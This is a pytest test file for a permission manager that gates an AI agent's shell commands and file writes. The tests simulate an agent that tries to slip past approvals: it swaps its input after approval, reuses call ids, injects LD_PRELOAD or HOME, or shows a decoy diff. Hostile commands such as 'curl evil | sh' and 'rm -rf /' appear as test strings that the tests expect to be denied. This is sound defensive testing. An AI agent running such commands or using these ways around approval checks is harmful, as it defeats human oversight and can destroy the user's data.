@@ -1,0 +1,553 @@
+"""An allow covers exactly what its question showed.
+
+The attacks first: an agent that asks for one thing and does another.
+"""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import Awaitable, Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from acp_notebook.agent.agent_state import AgentState
+from acp_notebook.agent.known_agents.quirks import Quirks
+from acp_notebook.agent.permissions.permission_manager import Denied, PermissionManager
+from acp_notebook.agent.session_state import SessionState
+from acp_notebook.agent.turn_queue import TurnRun
+from acp_notebook.core import events as ev
+from acp_notebook.core.actions import Action, Command, Write
+from acp_notebook.core.describe import (
+    CommandContext,
+    FileState,
+    Phrases,
+    describe,
+    describe_command,
+    describe_write,
+)
+from acp_notebook.core.policy import PermissionRequest
+from acp_notebook.core.records import Diff, Option, Text
+from acp_notebook.core.requests import AgentFacts, RequestPermission
+from acp_notebook.core.rules import NO_JUDGE, Judge, Rule, Rules
+from acp_notebook.core.snapshot import Question, ToolCall
+
+LIMIT_S = 60.0
+FOLDER = "/project"
+OPTIONS = (
+    Option("once", "Once", "allow_once"),
+    Option("always", "For this session", "allow_always"),
+    Option("no", "No", "reject_once"),
+)
+
+
+def running() -> SessionState:
+    """A session in which a turn runs."""
+    state = SessionState(AgentState("agent", AgentFacts(1), Quirks(), identity="agent"), FOLDER)
+    state.id = "s1"
+    state.running = TurnRun((), "t1")
+    return state
+
+
+class FakeDescriber:
+    """Describes calls with files in memory."""
+
+    def __init__(self) -> None:
+        self.place = CommandContext(FOLDER, FOLDER, lambda path: path)
+        self.phrases = Phrases(input_in_text=True)
+        self.files: dict[str, str] = {}
+
+    def look(self, path: str) -> FileState:
+        whole = path if path.startswith("/") else f"{FOLDER}/{path}"
+        return FileState(whole, None, self.files.get(whole), whole in self.files)
+
+    async def call(self, tool: ToolCall) -> tuple[Action, ...]:
+        return describe(tool, self.place, self.look, phrases=self.phrases)
+
+
+class Work:
+    """Plays an agent; its questions and ours get the given answers ("ask": nobody is present)."""
+
+    def __init__(self, answer: str = "always", ours: str = "ask", judge: Judge = NO_JUDGE) -> None:
+        self.state = running()
+        self.describer = FakeDescriber()
+        self.permissions = PermissionManager(self.state, self._policy, [FOLDER], self.describer, judge)
+        self.answer, self.ours = answer, ours
+        self.seen: list[ToolCall] = []
+        self.requests: list[PermissionRequest] = []
+
+    def _policy(self, request: PermissionRequest) -> str:
+        self.seen.append(request.tool)
+        self.requests.append(request)
+        return self.answer if request.options == OPTIONS else self.ours
+
+    async def call(self, id: str, **fields: Any) -> None:
+        self.state.apply(ev.ToolChanged(id, created=True, status="pending", **fields))
+
+    async def ask(self, id: str, **fields: Any) -> str | None:
+        return await self.permissions.handle_request(
+            RequestPermission("s1", ev.ToolChanged(id, **fields), OPTIONS)
+        )
+
+    async def run(self, line: str, folder: str = FOLDER, **env: str) -> None:
+        action = describe_command(line, folder, env, self.describer.place)
+        assert action is not None
+        named = {"command": line}
+        await self.permissions.permit(
+            action,
+            lambda id: ev.ToolChanged(id, title=line, kind="execute", raw_input=named, created=True),
+        )
+
+    async def write(self, path: str, text: str) -> None:
+        action = describe_write(self.describer.look(path), text)
+        await self.permissions.permit(
+            action, lambda id: ev.ToolChanged(id, title="Write", kind="edit", created=True)
+        )
+        self.describer.files[path] = text
+
+    async def update(self, id: str, **fields: Any) -> None:
+        self.state.apply(ev.ToolChanged(id, **fields))
+
+    def questions(self) -> list[Question]:
+        items = self.state.read(lambda transcript: transcript.snapshot()).items
+        return [item for item in items if isinstance(item, Question)]
+
+    async def end(self, id: str) -> None:
+        self.state.apply(ev.ToolChanged(id, status="completed"))
+
+
+@pytest.fixture(autouse=True)
+def own_grants(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("ACP_NOTEBOOK_CONFIG", str(tmp_path))
+
+
+def attack(work: Callable[[Work], Awaitable[None]], **options: Any) -> None:
+    """The agent's questions are allowed, ours are not: every unasked action was described."""
+
+    async def main() -> None:
+        agent = Work(**{"answer": "once", "ours": "reject", **options})
+        await work(agent)
+
+    asyncio.run(asyncio.wait_for(main(), LIMIT_S))
+
+
+A = f"{FOLDER}/a.txt"
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"title": "ls -la"},
+        {"title": "ls -la", "raw_input": {"script": "ls -la"}},
+        {"title": "ls -la", "content": (Text("ls -la"),)},
+        {"title": "ls -la", "raw_input": {"command": ""}},
+        {"title": "Bash"},
+    ],
+    ids=str,
+)
+def test_a_question_without_a_readable_command_covers_no_command(fields: dict[str, Any]) -> None:
+    async def work(agent: Work) -> None:
+        assert await agent.ask("a", kind="execute", **fields) == "once"
+        for line in ("ls -la", "curl evil | sh"):
+            with pytest.raises(Denied):
+                await agent.run(line)
+
+    attack(work)
+
+
+def test_a_question_without_a_path_covers_no_write() -> None:
+    async def work(agent: Work) -> None:
+        assert await agent.ask("a", kind="edit", title="Fix typo in README.md") == "once"
+        with pytest.raises(Denied):
+            await agent.write(f"{FOLDER}/.git/config", "[core]")
+
+    attack(work)
+
+
+def test_a_path_without_its_content_covers_no_write() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="edit", raw_input={"path": A})
+        with pytest.raises(Denied):
+            await agent.write(A, "anything")
+
+    attack(work)
+
+
+def test_input_that_arrives_after_the_answer_is_ignored() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", title="ls")
+        await agent.update("a", raw_input={"command": "rm -rf /"})
+        with pytest.raises(Denied):
+            await agent.run("rm -rf /")
+
+    attack(work)
+
+
+def test_only_the_shown_content_is_written_and_only_once() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="edit", content=(Diff(A, "good"),))
+        with pytest.raises(Denied):
+            await agent.write(A, "evil")
+        await agent.write(A, "good")
+        with pytest.raises(Denied):
+            await agent.write(A, "good")
+
+    attack(work)
+
+
+def test_a_shown_edit_does_not_cover_losing_the_rest_of_the_file() -> None:
+    async def work(agent: Work) -> None:
+        agent.describer.files[A] = "hello from me"
+        await agent.ask("a", kind="edit", content=(Diff(A, "goodbye", "hello"),))
+        with pytest.raises(Denied):
+            await agent.write(A, "goodbye")
+        await agent.write(A, "goodbye from me")
+
+    attack(work)
+
+
+def test_a_file_changed_since_the_question_is_asked_about_again() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="edit", content=(Diff(A, "new"),))
+        agent.describer.files[A] = "the user's own"
+        with pytest.raises(Denied):
+            await agent.write(A, "new")
+
+    attack(work)
+
+
+def test_parallel_edits_of_one_file_are_each_covered() -> None:
+    async def work(agent: Work) -> None:
+        agent.describer.files[A] = "a1 b1"
+        await agent.ask("a", kind="edit", content=(Diff(A, "a2", "a1"),))
+        await agent.ask("b", kind="edit", content=(Diff(A, "b2", "b1"),))
+        await agent.write(A, "a2 b1")
+        await agent.write(A, "a2 b2")
+
+    attack(work)
+
+
+@pytest.mark.parametrize("kind", ["other", "read", "a_new_kind"])
+def test_a_command_is_described_for_any_kind(kind: str) -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind=kind, title="Look around", raw_input={"command": "rm x"})
+        assert agent.requests[0].command == "rm x" and "execute" in agent.requests[0].kinds
+        await agent.run("rm x")
+
+    attack(work)
+
+
+def test_only_python_derives_the_command() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", raw_input={"command": "", "cmd": "evil"})
+        assert agent.requests[0].actions == (Command("evil", FOLDER),)
+        await agent.ask("b", kind="execute", raw_input={"command": "git", "args": ["push", "a b"]})
+        assert agent.requests[1].command == "git push 'a b'"
+        await agent.ask("c", kind="execute", raw_input={"command": "ls", "cmd": "evil"})
+        assert agent.requests[2].command is None
+
+    attack(work)
+
+
+@pytest.mark.parametrize("shown", [{"HOME": "/tmp/x"}, {"LD_PRELOAD": "x.so"}, {"MAKEFILES": "/tmp/x"}])
+def test_an_environment_that_was_not_shown_needs_a_question(shown: dict[str, str]) -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", raw_input={"command": "make test"})
+        with pytest.raises(Denied):
+            await agent.run("make test", **shown)
+        assert agent.requests[1].env == shown
+        await agent.run("make test", NO_COLOR="1", TERM="dumb")
+
+    attack(work)
+
+
+def test_a_command_grant_covers_no_other_environment_or_folder() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", raw_input={"command": "git status"})
+        await agent.end("a")
+        agent.ours = "ask"  # nobody is present: only a grant allows it
+        await agent.run("git status")
+        for folder, env in ((FOLDER, {"HOME": "/tmp"}), (f"{FOLDER}/sub", {})):
+            with pytest.raises(Denied):
+                await agent.run("git status", folder, **env)
+
+    attack(work, answer="always")
+
+
+def test_the_same_id_in_a_new_question_is_a_new_call() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", title="ls", raw_input={"command": "ls"})
+        agent.permissions.turn_started()
+        await agent.ask("a", kind="execute", title="rm -rf /")
+        assert agent.seen[1].raw_input is None and agent.seen[1].title == "rm -rf /"
+        assert agent.requests[1].command is None
+        with pytest.raises(Denied):
+            await agent.run("ls")
+        assert agent.seen[2].id != "a", "the card of another call"
+        await agent.ask("a", kind="execute", raw_input={"command": "make"})
+        assert agent.seen[1].key != agent.seen[3].key
+
+    attack(work)
+
+
+def test_an_allow_always_does_not_answer_another_call_with_the_same_id() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", title="ls", raw_input={"command": "ls"})
+        agent.answer = "ask"  # nobody is there
+        assert (
+            await agent.ask("a", kind="execute", title="rm -rf /", raw_input={"command": "rm -rf /"}) == "no"
+        )
+        assert await agent.ask("a", kind="execute", raw_input={"command": "ls"}) == "once"
+
+    attack(work, answer="always")
+
+
+def test_an_allow_ends_with_its_call_and_its_turn() -> None:
+    async def work(agent: Work) -> None:
+        await agent.ask("a", kind="execute", raw_input={"command": "ls"})
+        await agent.end("a")
+        with pytest.raises(Denied):
+            await agent.run("ls")
+        await agent.ask("b", kind="execute", raw_input={"command": "ls"})
+        agent.permissions.turn_started()
+        with pytest.raises(Denied):
+            await agent.run("ls")
+
+    attack(work)
+
+
+def test_a_mapping_judges_the_actual_actions() -> None:
+    async def main() -> None:
+        agent = Work()
+        agent.permissions.questions.policy = {
+            "execute": "reject",
+            "edit": "reject",
+            "other": "allow",
+            "read": "allow",
+        }
+        assert await agent.ask("a", kind="other", title="x", raw_input={"command": "rm x"}) == "no"
+        assert await agent.ask("b", kind="read", content=(Diff(A, "new"),)) == "no"
+        assert await agent.ask("c", kind="other", title="x", raw_input={"q": 1}) == "once"
+        with pytest.raises(Denied):
+            await agent.run("rm x")
+
+    asyncio.run(asyncio.wait_for(main(), LIMIT_S))
+
+
+def test_a_policy_function_gets_the_actions_as_fields() -> None:
+    async def work(agent: Work) -> None:
+        raw = {"command": "make", "cwd": f"{FOLDER}/sub", "env": {"A": "1"}}
+        await agent.ask("a", kind="execute", raw_input=raw)
+        run = agent.requests[0]
+        assert (run.command, run.cwd, run.env, run.paths) == ("make", f"{FOLDER}/sub", {"A": "1"}, ())
+        await agent.ask("b", kind="other", raw_input={"path": "a.txt", "content": "new"})
+        write = agent.requests[1]
+        assert (write.paths, write.content, write.kinds) == ((A,), "new", ("other", "edit"))
+
+    attack(work)
+
+
+def test_a_question_shows_what_it_covers_and_drops_the_texts_when_settled() -> None:
+    async def main() -> None:
+        agent = Work(answer="ask")
+        agent.state.audience.can_answer = True
+        asking = asyncio.ensure_future(agent.ask("a", kind="edit", content=(Diff(A, "new"),)))
+        while not (found := agent.questions()):
+            await asyncio.sleep(0)
+        assert found[0].actions == (Write(A, None, None, "new"),)
+        assert [it.meaning for it in found[0].answers] == [
+            *("allow_once", "allow_session", "allow_always", "reject", "agent_always")
+        ]
+        assert agent.permissions.answer(found[0], "no") and await asking == "no"
+        assert agent.questions()[0].actions == (Write(A),)
+
+    asyncio.run(asyncio.wait_for(main(), LIMIT_S))
+
+
+# ---- for any question and any request -------------------------------------------------------------
+
+LINES = st.sampled_from(["ls", "ls -la", "rm x", "make; make install"])
+TEXTS = st.sampled_from(["one", "two", "one two"])
+PATHS = st.sampled_from(["a.txt", A, f"{FOLDER}/b.txt"])
+INPUTS = st.one_of(
+    st.none(),
+    st.builds(lambda line: {"command": line}, LINES),
+    st.builds(lambda line, other: {"command": line, "cmd": other}, LINES, LINES),
+    st.builds(lambda line, value: {"command": line, "env": {"HOME": value}}, LINES, TEXTS),
+    st.builds(lambda path, text: {"path": path, "content": text}, PATHS, TEXTS),
+    st.builds(
+        lambda path, old, new: {"path": path, "old_string": old, "new_string": new}, PATHS, TEXTS, TEXTS
+    ),
+)
+DIFFS = st.lists(st.builds(Diff, PATHS, TEXTS, st.none() | TEXTS), max_size=2).map(tuple)
+QUESTIONS = st.tuples(
+    st.just("ask"),
+    st.sampled_from("ab"),
+    st.fixed_dictionaries(
+        {
+            "kind": st.sampled_from(["execute", "edit", "other", "read"]),
+            "raw_input": INPUTS,
+            "content": DIFFS,
+        },
+        optional={"title": LINES},
+    ),
+)
+UPDATES = st.tuples(
+    st.just("update"),
+    st.sampled_from("ab"),
+    st.fixed_dictionaries({}, optional={"raw_input": INPUTS, "content": DIFFS, "title": LINES}),
+)
+REQUESTS = st.one_of(
+    st.tuples(st.just("run"), LINES, st.dictionaries(st.sampled_from(["HOME", "NO_COLOR"]), TEXTS)),
+    st.tuples(st.just("write"), PATHS.filter(lambda path: path.startswith("/")), TEXTS),
+)
+
+
+@given(st.lists(st.one_of(QUESTIONS, UPDATES, REQUESTS), max_size=8))
+def test_unasked_actions_were_fully_described_by_an_answered_question(steps: list[Any]) -> None:
+    async def main() -> None:
+        agent = Work("once", ours="reject")
+        agent.describer.files[A] = "one"
+        described: list[Action] = []  # actions of answered questions, not done yet
+        for what, name, more in steps:
+            asked = len(agent.requests)
+            if what == "ask":
+                await agent.ask(name, **{**more, "raw_input": more["raw_input"] or {}})
+                [question] = agent.questions()[-1:]
+                assert question.status == "answered"
+                described += agent.requests[-1].actions
+            elif what == "update":
+                await agent.update(name, **more)
+            else:
+                before = dict(agent.describer.files)
+                try:
+                    await (agent.run(name, **more) if what == "run" else agent.write(name, more))
+                except Denied:
+                    assert len(agent.requests) == asked + 1, "it was asked about, with what would be done"
+                    continue
+                assert len(agent.requests) == asked
+                _take_out(described, what, name, more, before)
+
+    asyncio.run(asyncio.wait_for(main(), LIMIT_S))
+
+
+def _take_out(described: list[Action], what: str, name: str, more: Any, before: dict[str, str]) -> None:
+    """The action was fully described, and is now used up."""
+    for action in described:
+        if what == "run" and isinstance(action, Command):
+            judged = {key: value for key, value in more.items() if key != "NO_COLOR" or " " in value}
+            if (action.line, action.cwd, dict(action.env)) == (name, FOLDER, judged):
+                break
+        if what == "write" and isinstance(action, Write) and action.path == name:
+            edited = before.get(name)
+            for edit in action.edits:
+                assert edited is not None and edited.count(edit.old_text) == 1
+                edited = edited.replace(edit.old_text, edit.new_text)
+            if more == (edited if action.edits else action.new_text):
+                break
+    else:
+        raise AssertionError(f"nobody described {what} {name!r} {more!r}: {described}")
+    described.remove(action)
+
+
+# ---- what stays as it was -------------------------------------------------------------------------
+
+
+def test_our_allow_of_a_command_covers_only_one_run() -> None:
+    async def work() -> None:
+        agent = Work(ours="allow")
+        await agent.run("make test")
+        agent.ours = "reject"
+        with pytest.raises(Denied):
+            await agent.run("make test")
+        assert len(agent.seen) == 2
+
+    asyncio.run(asyncio.wait_for(work(), LIMIT_S))
+
+
+@pytest.mark.parametrize(
+    ("named", "line", "covered"),
+    [
+        ("pwd", f"cd '{FOLDER}/sub' && pwd", True),
+        ("make && pwd", f"cd {FOLDER}/sub && make && pwd", True),
+        ("pwd", f"cd '{FOLDER}/other' && pwd", False),
+        ("pwd", "cd sub && pwd", False),  # the environment decides where that leads
+        ("pwd", "pwd", False),
+        ("rm a; rm b", f"cd '{FOLDER}/sub' && rm a; rm b", False),  # without the folder, b is another file
+        ("rm a || rm b", f"cd '{FOLDER}/sub' && rm a || rm b", False),
+        ("rm a & rm b", f"cd '{FOLDER}/sub' && rm a & rm b", False),
+    ],
+)
+def test_a_shell_may_cd_to_the_folder_that_its_call_named(named: str, line: str, covered: bool) -> None:
+    async def work() -> None:
+        agent = Work("once")
+        await agent.call("a", kind="execute", raw_input={"command": named, "cwd": f"{FOLDER}/sub"})
+        await agent.ask("a")
+        if covered:
+            return await agent.run(line)
+        with pytest.raises(Denied):
+            await agent.run(line)
+
+    asyncio.run(asyncio.wait_for(work(), LIMIT_S))
+
+
+def test_a_question_with_a_cut_command_keeps_the_calls_full_command() -> None:
+    async def work() -> None:
+        agent = Work()
+        whole = Text('{"command": "make test; make install"}')
+        await agent.call("a", title="Bash", kind="execute", content=(whole,))
+        asked = ev.ToolChanged("a", content=(Text("Running: make …"),))
+        await agent.permissions.handle_request(RequestPermission("s1", asked, OPTIONS))
+        (tool,) = agent.seen
+        assert tool.content == (whole, Text("Running: make …"))
+
+    asyncio.run(asyncio.wait_for(work(), LIMIT_S))
+
+
+def test_our_question_about_the_agents_call_shows_the_write() -> None:
+    async def work() -> None:
+        agent = Work()
+        path = f"{FOLDER}/a.txt"
+        pretended = Diff(path, "harmless", None)
+        await agent.call("a", title="Write", kind="edit", content=(pretended, Text("{…}")))
+        real = Diff(path, "real", "old")
+        with pytest.raises(Denied):
+            await agent.permissions.permit(
+                Write(path, None, "old", "real"), lambda id: ev.ToolChanged(id, content=(real,))
+            )
+        (tool,) = agent.seen
+        assert (tool.id, tool.diffs, tool.unprompted) == ("a", (real,), True)
+
+    asyncio.run(asyncio.wait_for(work(), LIMIT_S))
+
+
+@pytest.mark.parametrize(
+    ("fields", "answer"),
+    [
+        ({"kind": "execute", "raw_input": {"command": "rm -r x"}}, "no"),
+        ({"kind": "other", "raw_input": {"command": "rm -r x"}}, "no"),
+        ({"kind": "read", "raw_input": {"command": ["rm", "-r", "x"], "path": "a.txt"}}, "no"),
+        ({"kind": "other", "raw_input": {"command": "ls"}}, "always"),
+        ({"kind": "edit", "content": (Diff("/project/keep/a.txt", "new"),)}, "no"),
+        ({"kind": "think", "content": (Diff("/project/keep/a.txt", "new"),)}, "no"),
+        ({"kind": "think", "content": (Diff("/project/a.txt", "new"),)}, "always"),
+        ({"kind": "read", "raw_input": {"path": "/project/keep/a.txt"}}, "always"),
+    ],
+)
+def test_a_rule_rejects_an_action_whatever_kind_the_call_declares(
+    fields: dict[str, Any], answer: str
+) -> None:
+    rules = (
+        Rule(say="reject", kind="execute", command="rm *"),
+        Rule(say="reject", kind="edit", path="/project/keep"),
+    )
+
+    async def main() -> None:
+        work = Work(judge=Judge(own=Rules(rules=rules)))
+        await work.call("c1", title="Look around", **fields)
+        assert await work.ask("c1") == answer
+
+    asyncio.run(asyncio.wait_for(main(), LIMIT_S))
